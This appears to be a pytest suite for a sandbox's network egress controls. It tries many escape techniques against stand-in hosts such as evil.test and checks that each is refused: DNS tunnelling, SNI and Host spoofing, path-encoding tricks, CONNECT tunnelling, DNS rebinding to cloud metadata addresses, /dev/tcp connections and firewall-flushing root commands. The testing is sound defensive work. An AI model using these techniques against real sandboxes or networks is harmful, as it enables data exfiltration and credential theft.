"""What a box may do to get out, and what comes of it: every address outside is ours and is watched."""

import threading

import pytest
from boxkit import Box, wait_for
from world import EVIL, GOOD, GOOD6, METADATA, PRIVATE, Dns

# Ways a program learns at once that it is refused. A hang is none of them.
AT_ONCE = {"ConnectionResetError", "ConnectionRefusedError", "BrokenPipeError", "PermissionError", "gaierror", "closed"}

# What programs in the box begin with.
KIT = r"""
import os, socket, ssl, struct, sys, time

def extension(kind, data):
    return struct.pack("!HH", kind, len(data)) + data

def hello(name=None, ech=False):
    "A ClientHello, made by hand: libraries would not make these."
    out = b""
    if name is not None:
        raw = name if isinstance(name, bytes) else name.encode()
        entry = b"\0" + struct.pack("!H", len(raw)) + raw
        out += extension(0, struct.pack("!H", len(entry)) + entry)
    if ech:
        out += extension(0xfe0d, b"\0\0\x01\0\x01\x07\0\x20" + b"e" * 32 + b"\0\x40" + b"x" * 64)
    out += extension(43, b"\x02\x03\x04") + extension(10, b"\0\x02\0\x1d") + extension(13, b"\0\x02\x04\x03")
    out += extension(51, b"\0\x24\0\x1d\0\x20" + b"k" * 32)
    body = b"\x03\x03" + b"r" * 32 + b"\x20" + b"s" * 32 + b"\0\x02\x13\x01\x01\0" + struct.pack("!H", len(out)) + out
    shake = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(shake)) + shake

def say(to, port, *pieces, pause=0.0):
    "Connects, says the pieces, and returns what came back or how it ended."
    try:
        with socket.create_connection((to, port), timeout=30) as s:
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for piece in pieces:
                s.sendall(piece)
                if pause:
                    time.sleep(pause)
            got = s.recv(65536)
            return got if got else "closed"
    except OSError as error:
        return type(error).__name__

def get(to, host, path="/hello.txt", port=80, extra=""):
    got = say(to, port, f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{extra}Connection: close\r\n\r\n".encode())
    return got if isinstance(got, str) else got.split(b"\r\n")[0].decode()
"""


def run(box, code):
    ran = box.python(KIT + code)
    assert ran.ok, ran
    return ran.out.splitlines()


def evaluate(box, *expressions):
    return run(box, "".join(f"\nprint({expression})" for expression in expressions))


def assert_refused(answers):
    for answer in answers:
        assert answer in AT_ONCE or " 403" in answer or " 400" in answer, answers


@pytest.fixture
def box(make_walled):
    """May reach one name, on the ports of the web and of ssh."""
    return make_walled(network={"allow": [{"to": "good.test", "ports": [22, 80, 443]}]})


def test_the_world_is_there_for_an_allowed_name(box, world):
    """Without this, everything below would prove nothing."""
    assert evaluate(box, 'get("good.test", "good.test")') == ["HTTP/1.1 200 OK"]
    ran = box.exec(["curl", "-sSk", "--max-time", "60", "https://good.test/hello.txt"])
    assert ran.out == "hello from the world\n", ran
    assert [c.server_name for c in world.calls_to(GOOD) if c.port == 443][-1] == "good.test"
    # TLS made by hand reaches it too: a server that answers with an alert or a hello.
    assert evaluate(box, 'say("good.test", 443, hello("good.test"))[:1]') in [["b'\\x16'"], ["b'\\x15'"]]


@pytest.mark.parametrize("network", [{}, {"allow": ["good.test"]}, {"profile": "air-gapped"}])
def test_dns_tunnel(make_walled, world, network):
    box = make_walled(network=network)
    run(box, f"""
query = lambda name, kind: b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0" + b"".join(
    bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0" + struct.pack("!HH", kind, 1)
for n in range(5):
    try:
        socket.getaddrinfo(f"data{{n}}.tunnel.evil.test", 80)
    except OSError:
        pass
for resolver in ("10.0.0.1", "{EVIL}", "198.51.100.53"):
    for kind in (1, 5, 15, 16, 28, 33, 65, 255):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(20)
            s.sendto(query("data.tunnel.evil.test", kind), (resolver, 53))
            print(s.recv(4096)[3] & 15)
    with socket.create_connection((resolver, 53), timeout=20) as s:
        q = query("data-over-tcp.evil.test", 16)
        s.sendall(struct.pack("!H", len(q)) + q)
        s.recv(4096)
""")  # fmt: skip
    assert not [name for name in world.dns.names() if name.endswith("evil.test")]
    assert world.capture.packets(EVIL) == 0


def test_allowed_domain_as_a_channel(make_walled, world):
    """One bucket of a store that everybody has buckets at."""
    box = make_walled(network={"allow": [{"to": "good.test", "http": [{"methods": ["GET"], "path": "/ours/*"}]}]})
    (world.directory / "ours").mkdir(exist_ok=True)
    (world.directory / "ours" / "a.txt").write_text("a")
    assert evaluate(box, 'get("good.test", "good.test", "/ours/a.txt")') == ["HTTP/1.1 200 OK"]
    paths = ["/theirs/up?X-Amz-Signature=x", "/ours/../theirs/a", "/ours/%2e%2e/theirs/a", "/ours%2f..%2ftheirs", "//theirs/a"]
    answers = evaluate(box, *[f'get("good.test", "good.test", {path!r})' for path in paths])
    assert_refused(answers)
    answers = evaluate(box, 'say("good.test", 80, b"PUT /ours/a HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 1\\r\\n\\r\\nx")[9:12]')
    assert answers == ["b'403'"], answers
    assert not [call for call in world.calls if "theirs" in (call.path or "") or call.method == "PUT"]


def test_sni_and_host_mismatch(make_walled, world):
    """Where requests inside TLS are looked at, they are for the host the connection is for."""
    box = make_walled(network={"allow": [{"to": "good.test", "http": [{"methods": ["GET"], "path": "/*"}]}]})
    ran = box.exec(["curl", "-sS", "--max-time", "60", "https://good.test/hello.txt"])
    assert ran.out == "hello from the world\n", ran
    ran = box.exec(["curl", "-sSk", "--max-time", "60", "-H", "Host: other.test", "https://good.test/fronted"])
    assert ran.code != 28, ran
    ran = box.exec(["curl", "-sSk", "--max-time", "60", "--http2", "-H", "Host: other.test", "https://good.test/fronted"])
    assert ran.code != 28, ran
    assert not [call for call in world.calls if call.host == "other.test" or call.path == "/fronted"]


def test_second_request_on_keep_alive_with_another_host(box, world):
    first = "GET /hello.txt HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n"
    second = "GET /second HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n"
    # After an answer, and before there can be one.
    evaluate(box, f'say("good.test", 80, b"{first}", b"{second}", pause=0.5)', f'say("good.test", 80, b"{first}{second}")')
    assert not [call for call in world.calls if call.path == "/second"]


@pytest.fixture
def mirrored(make_walled, world):
    """May reach a second name, at the attacker's address: a connection to that may begin, and what it says decides."""
    world.dns.records["mirror.test"] = [(Dns.A, EVIL)]
    box = make_walled(network={"allow": [{"to": "good.test", "ports": [22, 80, 443]}, {"to": "mirror.test", "ports": [80, 443]}]})
    assert evaluate(box, 'socket.gethostbyname("mirror.test")', 'socket.gethostbyname("good.test")') == [EVIL, GOOD]
    return box


def test_sni_spoof_to_own_ip(mirrored, world):
    """The address is the attacker's, the name is an allowed one: the name is what is dialled."""
    box, before = mirrored, len(world.calls_to(GOOD))
    evaluate(box, f'say("{EVIL}", 443, hello("good.test"))', f'get("{EVIL}", "good.test")')
    wait_for(lambda: len(world.calls_to(GOOD)) >= before + 3, "the host that was named is called")
    assert world.capture.packets(EVIL) == 0


def test_sni_evil_to_allowed_ip(box, world):
    before = len(world.calls_to(GOOD))
    # The box has asked for good.test, so its address is known; the name it says is another.
    answers = evaluate(box, 'say(socket.gethostbyname("good.test"), 443, hello("evil.test"))', 'get("good.test", "evil.test")')
    assert_refused(answers)
    assert len(world.calls_to(GOOD)) == before and world.capture.packets(EVIL) == 0


def test_no_sni(box, world):
    before = len(world.calls_to(GOOD))
    assert_refused(evaluate(box, 'say("good.test", 443, hello())', f'say("{EVIL}", 443, hello())'))
    assert len(world.calls_to(GOOD)) == before


def test_ech(box, world):
    before = len(world.calls_to(GOOD))
    assert_refused(evaluate(box, 'say("good.test", 443, hello("good.test", ech=True))'))
    assert len(world.calls_to(GOOD)) == before


def test_ech_keys_are_not_given_out(make_walled, world):
    # SVCB in form: priority 1, no other target, alpn h2, and an ech parameter (key 5).
    data = b"\0\x01\0" + b"\0\x01\0\x03\x02h2" + b"\0\x05\0\x08KEYSKEYS"
    world.dns.records["keyed.test"] = [(Dns.A, GOOD), (Dns.HTTPS, data)]
    box = make_walled(network={"allow": ["keyed.test"]})
    lines = run(box, """
query = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x05keyed\\x04test\\0\\0\\x41\\0\\x01"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(20)
    s.sendto(query, ("10.0.0.1", 53))
    got = s.recv(4096)
print(got[3] & 15, struct.unpack("!H", got[6:8])[0], b"h2" in got, b"KEYS" in got)
""")  # fmt: skip
    assert lines == ["0 1 True False"], lines
    assert ("keyed.test", Dns.HTTPS) in world.dns.asked


def test_client_hello_split_over_records_and_packets(box, world):
    """However it is cut, it is read to its end: the allowed name passes, another does not."""
    before = len(world.calls_to(GOOD))
    bad = evaluate(
        box,
        '(lambda h: say("good.test", 443, *[h[i:i+1] for i in range(len(h))]))(hello("evil.test"))',
        '(lambda h: say("good.test", 443, h[:60], h[60:], pause=0.3))(hello("evil.test"))',
        # Two records, the name in the second.
        '(lambda b: say("good.test", 443, b"\\x16\\x03\\x01" + struct.pack("!H", 40) + b[:40] + b"\\x16\\x03\\x01" + struct.pack("!H", len(b) - 40) + b[40:]))(hello("evil.test")[5:])',
    )
    assert_refused(bad)
    assert len(world.calls_to(GOOD)) == before
    good = evaluate(box, '(lambda h: say("good.test", 443, h[:60], h[60:], pause=0.3))(hello("good.test"))[:1]')
    assert good in [["b'\\x16'"], ["b'\\x15'"]], good


def test_ip_literal(box, world):
    """The address of an allowed site without its name, in every spelling."""
    before = len(world.calls_to(GOOD))
    number = sum(int(part) << shift for part, shift in zip(GOOD.split("."), (24, 16, 8, 0), strict=True))
    octal = ".".join(f"0{int(part):o}" for part in GOOD.split("."))
    spellings = [GOOD, str(number), hex(number), octal, f"[::ffff:{GOOD}]", f"[{GOOD6}]"]
    for spelling in spellings:
        ran = box.exec(["curl", "-sSk", "--max-time", "60", f"http://{spelling}/hello.txt"])
        assert ran.code != 28 and "hello" not in ran.out, (spelling, ran)
        ran = box.exec(["curl", "-sSk", "--max-time", "60", f"https://{spelling}/hello.txt"])
        assert ran.code not in (0, 28), (spelling, ran)
        # The same in a request to the allowed name.
        assert_refused(evaluate(box, f'get("good.test", {spelling!r})'))
    assert len(world.calls_to(GOOD)) == before and not world.calls_to(GOOD6)


@pytest.mark.parametrize("target", [*METADATA, PRIVATE, "127.0.0.1", "::1", "fe80::1", "0.0.0.0"])
def test_dns_rebinding(make_walled, world, target):
    """A name that is public at the first question and inner at the next; and both at once; and by CNAME."""
    kind = Dns.AAAA if ":" in target else Dns.A
    turns = iter(range(1000))
    label = target.replace(".", "-").replace(":", "-")
    world.dns.records |= {
        f"turn{label}.test": lambda: [(Dns.A, GOOD)] if next(turns) < 2 else [(kind, target)],
        f"both{label}.test": [(Dns.A, GOOD), (kind, target)],
        f"alias{label}.test": [(Dns.CNAME, "inner.corp.test"), (kind, target)],
        f"only{label}.test": [(kind, target)],
    }
    names = [f"{word}{label}.test" for word in ("turn", "both", "alias", "only")]
    box = make_walled(network={"allow": names})
    run(box, f"""
for name in {names!r}:
    for port in (80, 443, 8080):
        for _ in range(3):
            try:
                addresses = [a[4][0] for a in socket.getaddrinfo(name, port, type=socket.SOCK_STREAM)]
            except OSError:
                addresses = []
            assert {target!r} not in addresses, (name, addresses)
            get(addresses[0] if addresses else "{EVIL}", name, port=port) if port != 443 else say(addresses[0] if addresses else "{EVIL}", 443, hello(name))
""")  # fmt: skip
    assert not world.calls_to(target) and world.capture.packets(target) == 0


def test_connect_abuse(box, world):
    """A proxy a program was told of is a host like any other, and CONNECT is no way round it."""
    before = len(world.calls)
    attempts = ["good.test:22", "good.test:8443", "evil.test:443", f"{EVIL}:443", "good.test:443@evil.test:443", "evil.test:443#good.test:443", "[::1]:443"]
    for attempt in attempts:
        answers = evaluate(
            box,
            f'say("good.test", 80, b"CONNECT {attempt} HTTP/1.1\\r\\nHost: {attempt}\\r\\n\\r\\n")',
            # Bytes after the head, and another CONNECT inside.
            f'say("good.test", 80, b"CONNECT {attempt} HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\nCONNECT evil.test:80 HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\nGET /tunnelled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")',
        )
        for answer in answers:
            assert " 200" not in answer.split("\\r\\n")[0], (attempt, answers)
    assert world.capture.packets(EVIL) == 0
    assert not [call for call in world.calls[before:] if call.path == "/tunnelled" or call.port == 22]


def test_host_parser_confusion(mirrored, world):
    """Two readers of one name that disagree are a hole: what is not one plain name is refused."""
    box, before = mirrored, len(world.capture.seen)
    names = [
        b"good.test\\0.evil.test", b"evil.test\\0good.test", b"good.test@evil.test", b"evil.test@good.test", b"good.test%00.evil.test",
        b"good.test%2eevil.test", b"good.test#.evil.test", b"good.test:80:80", b"good.test evil.test", b"evil.test,good.test",
        b"good.test\\tevil.test", b"[good.test]", b"[fe80::1%25lo]", b"good.test/", b"xn--good-.test", b"g\\xc3\\xb6\\xc3\\xb6d.test", b"good..test", b".good.test",
    ]  # fmt: skip
    texts = [name.decode("latin-1") for name in names]
    answers = evaluate(
        box,
        *[f'say("{EVIL}", 80, b"GET /confused HTTP/1.1\\r\\nHost: {text}\\r\\n\\r\\n")' for text in texts],
        *[f'say("{EVIL}", 443, hello(b"{text}"))' for text in texts],
        f'say("{EVIL}", 80, b"GET /confused HTTP/1.1\\r\\nHost: good.test\\r\\nHost: evil.test\\r\\n\\r\\n")',
        f'say("{EVIL}", 80, b"GET http://evil.test/confused HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n")',
    )
    assert not [call for call in world.calls if call.path and "confused" in call.path], answers
    assert world.capture.packets(EVIL) == 0, (before, world.capture.seen)
    # Upper case and a dot at the end are the same name, and are dialled as it.
    for same in ("GOOD.test", "good.test."):
        assert evaluate(box, f'get("{EVIL}", "{same}")') == ["HTTP/1.1 200 OK"], same
    assert world.capture.packets(EVIL) == 0


def test_encrypted_dns(box, world):
    """DoT, DoQ, and DoH at an address: none is a way to ask for other names."""
    answers = evaluate(
        box,
        f'say("{EVIL}", 853, hello("dns.test"))',
        f'say("{EVIL}", 443, hello("dns.test"))',
        f'get("{EVIL}", "dns.test", "/dns-query?dns=AAAA")',
        'say("good.test", 853, hello("good.test"))',
    )
    assert_refused(answers)
    assert not [p for p in world.capture.seen if p[2] == 853] and world.capture.packets(EVIL) == 0


@pytest.mark.parametrize("network", [{"allow": ["good.test", f"{EVIL}"]}, {"profile": "open"}])
def test_quic_udp_icmp_and_raw_packets(make_walled, world, network):
    box = make_walled(network=network)
    known = {key for key in world.capture.seen if key[0] != 6}
    lines = run(box, f"""
def attempt(name, work):
    try:
        work()
        print(name, "passed")
    except OSError as error:
        print(name, type(error).__name__)

def datagram(to, port):
    family = socket.AF_INET6 if ":" in to else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(20)
        s.connect((to, port))
        s.send(b"\\xc0" * 1200)
        s.recv(100)

def raw(kind, protocol):
    with socket.socket(socket.AF_INET, kind, protocol) as s:
        s.settimeout(20)
        s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", ("{EVIL}", 0))
        s.recv(100)

address = socket.gethostbyname("good.test")
for port in (443, 123, 784, 853, 5353, 51820):
    attempt("udp", lambda: datagram(address, port))
attempt("udp", lambda: datagram("{EVIL}", 443))
attempt("udp", lambda: datagram("{GOOD6}", 443))
attempt("icmp", lambda: raw(socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
for protocol in (socket.IPPROTO_ICMP, 17, 47, 132, 255):
    attempt("raw", lambda: raw(socket.SOCK_RAW, protocol))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
""")  # fmt: skip
    assert len(lines) == 15
    assert not [line for line in lines if line.endswith(("passed", "TimeoutError"))], lines
    # The lookup of the server is the only datagram there may be.
    assert {key for key in world.capture.seen if key[0] != 6} - known <= {(17, "198.18.0.53", 53)}


def test_clients_that_know_no_proxy(box, world):
    """No program is told of a proxy, so none can forget it: whatever speaks TCP is let through or refused."""
    assert "proxy" not in box.exec("env").out.lower()
    ways = {
        "curl": "curl -sS --max-time 60 http://HOST/hello.txt",
        "wget": "wget -qO- --timeout=60 --tries=1 http://HOST/hello.txt",
        "python": "python3 -c 'import urllib.request as u; print(u.urlopen(\"http://HOST/hello.txt\", timeout=60).read().decode())'",
        "node": "node -e 'fetch(\"http://HOST/hello.txt\").then(a => a.text()).then(console.log, () => process.exit(1))'",
        "perl": "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(\"HOST:80\") or exit 1; print $s \"GET /hello.txt HTTP/1.0\\r\\nHost: HOST\\r\\n\\r\\n\"; print <$s>'",
        "bash": "bash -c 'exec 3<>/dev/tcp/HOST/80; printf \"GET /hello.txt HTTP/1.0\\r\\nHost: HOST\\r\\n\\r\\n\" >&3; cat <&3'",
        "git": "git ls-remote http://HOST/none.git",
        "ssh": "ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=60 HOST",
    }
    for name, words in ways.items():
        reached, refused = (box.exec(["sh", "-c", words.replace("HOST", host)]) for host in ("good.test", "evil.test"))
        assert "hello from the world" not in refused.out and refused.code not in (0, None), (name, refused)
        if name == "git":
            assert any("/none.git" in (call.path or "") for call in world.calls_to(GOOD)), reached
        elif name == "ssh":
            assert any(call.port == 22 and call.raw.startswith(b"SSH-2.0-OpenSSH") for call in world.calls_to(GOOD)), reached
        else:
            assert "hello from the world" in reached.out, (name, reached)
    assert world.capture.packets(EVIL) == 0


@pytest.mark.parametrize("network", [{"allow": ["good.test", *METADATA]}, {"profile": "open"}])
def test_metadata_ssrf(make_walled, world, network):
    """By its address, by a redirect of an allowed site, by a Host of its own. A policy can not open it."""
    box = make_walled(network=network)
    world.dns.records["metadata.google.internal"] = [(Dns.A, METADATA[0])]
    for address in METADATA:
        shown = f"[{address}]" if ":" in address else address
        for url in (f"http://{shown}/latest/meta-data/", f"http://{shown}:8080/", f"https://{shown}/", f"http://good.test/to?http://{shown}/latest/meta-data/"):
            ran = box.exec(["curl", "-sSkL", "--max-time", "60", url])
            assert ran.code != 28 and "hello" not in ran.out, (url, ran)
        evaluate(box, f'get("good.test", "{shown}", "/latest/meta-data/")')
        assert world.capture.packets(address) == 0
    ran = box.exec(["curl", "-sSk", "--max-time", "60", "http://metadata.google.internal/computeMetadata/v1/"])
    assert ran.code not in (0, 28), ran
    assert not [call for call in world.calls if call.path and "meta-data" in call.path and "/to?" not in call.path]


def test_redirect_to_inner_net(make_walled, world):
    box = make_walled(network={"profile": "open"})
    for target in (f"http://{PRIVATE}/inner", f"http://127.0.0.1:{box.server.port}/v1/health", "http://[::1]/inner", "http://172.16.0.1/inner"):
        ran = box.exec(["curl", "-sSkL", "--max-time", "60", f"http://good.test/to?{target}"])
        assert ran.code not in (0, 28), (target, ran)
    assert not [call for call in world.calls if call.path == "/inner"]
    assert world.capture.packets(PRIVATE) == 0


def test_box_to_box_and_to_the_control_plane(make_walled, world):
    """From one box to another and to every port of the server, also where everything is open."""
    one, two = make_walled(network={"profile": "open"}), make_walled(network={"profile": "open"})
    two.exec(["sh", "-c", "setsid python3 -m http.server 8000 --bind 0.0.0.0 > /dev/null 2>&1 < /dev/null &"])
    wait_for(lambda: two.exec(["curl", "-sS", "-o", "/dev/null", "http://127.0.0.1:8000/"]).ok, "it listens", limit=60)
    ours = one.server.port
    targets = [("10.0.0.2", 8000), ("127.0.0.1", 8000), ("10.0.0.1", 8000), ("fd00:a::2", 8000), ("127.0.0.1", ours), ("10.0.0.1", ours), ("10.0.0.2", ours), ("198.18.0.1", ours), ("0.0.0.0", ours)]
    answers = evaluate(one, *[f'get("{to}", "x", "/v1/health", port={port})' for to, port in targets])
    assert_refused(answers)


def test_policy_change_while_a_stream_is_open(make_walled, world):
    box = make_walled(network={"allow": ["good.test"]})
    ended = []
    words = ["sh", "-c", "curl -sS --max-time 300 http://good.test/stream > /dev/null"]
    flow = threading.Thread(target=lambda: ended.append(box.exec(words, http_timeout=400)))
    flow.start()
    wait_for(lambda: world.open_streams == 1, "the stream runs", limit=60)
    box.server.json("PUT", f"{box.path}/network", {"allow": ["other.test"]})
    wait_for(lambda: world.open_streams == 0, "the stream is cut", limit=60)
    flow.join(60)
    assert ended and ended[0].code not in (0, 28, None), ended
    assert_refused(evaluate(box, 'get("good.test", "good.test")', f'get("{GOOD}", "good.test")'))


DOWNLOAD = """
import os, urllib.request
held = urllib.request.urlopen("http://good.test/stream", timeout=120)
open("/tmp/begun", "w").close()
try:
    while held.read(1000):
        pass
    end = "closed"
except OSError as error:
    end = type(error).__name__
with open("/tmp/ended", "w") as told:
    told.write(f"{end} {os.getpid()}")
"""


@pytest.mark.parametrize("level", ["gvisor"])
def test_a_fork_shares_no_connection(make_walled, world, level):
    """Forked in the middle of a download, with its memory: source and copy lose it and make their own."""
    box = make_walled(isolation=level, network={"allow": ["good.test"]})
    box.write("/tmp/download.py", DOWNLOAD.encode(), user="root")
    assert box.root("nohup python3 /tmp/download.py > /tmp/log 2>&1 &").ok
    wait_for(lambda: world.open_streams == 1 and box.root(["test", "-e", "/tmp/begun"]).ok, "the download runs")
    before = len(world.calls_to(GOOD))
    made = box.server.json("POST", f"{box.path}/fork", {"count": 1})["forks"][0]
    assert "sandbox" in made, made
    copy = Box.known(box.server, made["sandbox"]["id"])
    try:
        wait_for(lambda: world.open_streams == 0, "the download is cut")
        ends = [wait_for(lambda b=b: b.root(["cat", "/tmp/ended"]).out, "it ends") for b in (box, copy)]
        # The same process in both, and for neither did the connection go on.
        assert ends[0] == ends[1] and len(world.calls_to(GOOD)) == before, (ends, box.root(["cat", "/tmp/log"]))
        for one in (box, copy):
            assert evaluate(one, 'get("good.test", "good.test")', f'get("{EVIL}", "evil.test")')[0] == "HTTP/1.1 200 OK"
        assert world.capture.packets(EVIL) == 0
    finally:
        copy.kill()


def test_a_policy_that_can_not_be_enforced_is_refused(walled, world):
    """Without its packet rules a box would have no bounds: then there is no network to ask for."""
    from sandkeep_server import Refused

    for network in ({"allow": ["*.test:*"]}, {"allow": [{"to": "good.test", "protocol": "udp"}]}, {"default": "allow"}):
        with pytest.raises(Refused) as caught:
            walled.json("POST", "/v1/sandboxes", {"network": network})
        assert caught.value.status == 400, network


def test_root_of_the_box_can_not_take_the_moat_away(make_walled, world):
    box = make_walled()
    words = [
        "ip link add x type veth", "ip route del local default dev lo", "ip route add default via 10.0.0.9", "ip address add 198.18.0.9/24 dev lo",
        "nft flush ruleset", "iptables -F", "iptables -t nat -F", "ip netns add x", "unshare -n true", "nsenter -t 1 -n true", "sysctl -w net.ipv4.ip_forward=1",
    ]  # fmt: skip
    for line in words:
        box.root(["sh", "-c", line])
    assert_refused(evaluate(box, f'say("{EVIL}", 80, b"x" * 100)', 'get("good.test", "good.test")'))
    assert world.capture.packets(EVIL) == 0


def test_plain_tcp_by_the_name_that_was_looked_up(box, world):
    """A server that speaks first and a client that names no host: decided by our own DNS answer."""
    lines = run(box, """
with socket.create_connection(("good.test", 22), timeout=30) as s:
    print(s.recv(100))
    s.sendall(b"hi")
    s.shutdown(socket.SHUT_WR)
    print(s.recv(100), s.recv(100))
""")  # fmt: skip
    assert lines == ["b'SSH-2.0-world\\r\\n'", "b'you said hi' b''"], lines
    assert_refused(evaluate(box, f'say("{EVIL}", 22, b"hi\\r\\n")', 'say("good.test", 5432, b"hi")'))


def test_ipv6(make_walled, world):
    box = make_walled(network={"allow": ["six.test"]})
    assert evaluate(box, 'get("six.test", "six.test")', f'get("{GOOD6}", "six.test")') == ["HTTP/1.1 200 OK"] * 2
    assert_refused(evaluate(box, f'get("{GOOD6}", "{GOOD6}")', 'get("2001:db8:77::66", "evil.test")'))
    assert world.capture.packets("2001:db8:77::66") == 0


# One name may be asked anything, the other, at the same address, only for what is ours.
SHARED = {"allow": ["good.test", {"to": "other.test", "http": [{"methods": ["GET"], "path": "/ours/*"}]}]}


@pytest.mark.parametrize("level", ["container", "gvisor", "microvm"])
def test_http_policy_by_one_byte(make_walled, world, level):
    """What is not recognised as HTTP is not passed on as something else."""
    box = make_walled(isolation=level, network=SHARED)
    assert evaluate(box, 'get("good.test", "good.test")') == ["HTTP/1.1 200 OK"]
    lines = [
        r"GET /theirs?\xc3\xa9 HTTP/1.1",
        r"GET /theirs\x80 HTTP/1.1",
        r"G_T /theirs HTTP/1.1",
        r"GET\x0b/theirs\x0bHTTP/1.1",
        r"GET /theirs",
        r"\x80GET /theirs HTTP/1.1",
        r"GET\0 /theirs\rHTTP/1.1",
        r"GEEET\n /theirs HTTP/1.1",
        r"PRI * HTTP/2.0",
        r"\0\x01binary",
    ]
    rest = r"\r\nHost: other.test\r\nConnection: close\r\n\r\n"
    whole = [f'say("good.test", 80, b"{line}{rest}")' for line in lines]
    # Byte by byte, and later than servers that speak first are waited for.
    slow = [f'say("good.test", 80, *[b"{line}{rest}"[at:at + 1] for at in range(20)], b"{line}{rest}"[20:], pause=0.01)' for line in lines]
    late = [f'say("good.test", 80, b"", b"{line}{rest}", pause=0.2)' for line in lines]
    for way in (whole, slow, late):
        assert_refused(evaluate(box, *way))
    assert not [call for call in world.calls if "theirs" in (call.path or "")]


@pytest.mark.parametrize("level", ["container", "gvisor", "microvm"])
def test_path_rules_by_encodings(make_walled, world, level):
    """Paths that servers read in two ways, in the clear and in TLS."""
    box = make_walled(isolation=level, network=SHARED)
    (world.directory / "ours").mkdir(exist_ok=True)
    (world.directory / "ours" / "a b").write_text("a")
    tricks = ["..%3b/theirs", "%c0%ae%c0%ae/theirs", "%u002e%u002e/theirs", "..;/theirs", "%252e%252e/theirs", "..%5ctheirs", "%2e%2e/theirs"]
    for scheme in ("http", "https"):
        ask = ["curl", "-sSk", "--path-as-is", "--max-time", "60", "-o", "/dev/null", "-w", "%{http_code}\n"]
        fine = box.exec([*ask, f"{scheme}://other.test/ours/a%20b"])
        assert fine.out == "200\n", fine
        codes = [box.exec([*ask, f"{scheme}://other.test/ours/{trick}"]).out for trick in tricks]
        assert codes == ["403\n"] * len(tricks), codes
    assert not [call for call in world.calls if "theirs" in (call.path or "")]
